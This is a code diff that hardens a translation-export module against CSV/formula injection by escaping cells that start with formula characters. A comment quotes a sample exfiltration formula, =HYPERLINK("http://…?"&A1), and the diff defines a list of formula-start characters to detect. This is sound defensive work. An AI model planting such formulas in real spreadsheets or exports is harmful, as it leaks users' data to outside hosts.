@@ -8,6 +8,14 @@ import io
 from documents.formats.base import ExportDocument
 
 HEADER = ("number", "paragraph", "source", "target", "status", "comment")
+# What a spreadsheet runs as a formula (OWASP "CSV injection"): an article can carry
+# =HYPERLINK("http://…?"&A1) into a source, and opening the export in Excel would run it.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(cell: str) -> str:
+    """A cell a spreadsheet shows as text: formula-like cells get a leading apostrophe."""
+    return "'" + cell if cell.startswith(_FORMULA_START) else cell
 
 
 def _render(document: ExportDocument, delimiter: str) -> str:
@@ -19,10 +27,10 @@ def _render(document: ExportDocument, delimiter: str) -> str:
             (
                 segment.number,
                 segment.paragraph + 1,  # people count paragraphs from 1
-                segment.source,
-                segment.target,
+                neutralise(segment.source),
+                neutralise(segment.target),
                 segment.status.value,
-                segment.comment,
+                neutralise(segment.comment),
             )
         )
     return buffer.getvalue()
